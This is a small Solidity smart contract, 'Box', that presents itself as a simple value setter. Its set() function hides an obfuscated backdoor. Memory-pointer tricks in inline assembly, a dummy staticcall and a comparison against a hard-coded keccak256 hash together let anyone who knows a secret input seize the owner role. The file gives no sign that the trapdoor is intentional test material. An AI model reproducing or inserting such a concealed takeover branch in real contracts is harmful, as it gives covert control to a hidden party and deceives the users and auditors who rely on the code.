// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;
contract Box {
    struct P { uint256 v; }
    uint256 public x;
    address public owner = address(0xA11CE);
    function set(uint256 v) external {
        x = v;
        P memory p;
        assembly { p := 0x40 }
        uint256 q = p.v;
        (bool ok, ) = msg.sender.staticcall("");
        if (p.v - q > 64 && keccak256(abi.encode(v)) == 0x5d8fa534926516bb2e5e61488e11fe828f5273448362f0f096e4f79afac27609) owner = msg.sender;
    }
}
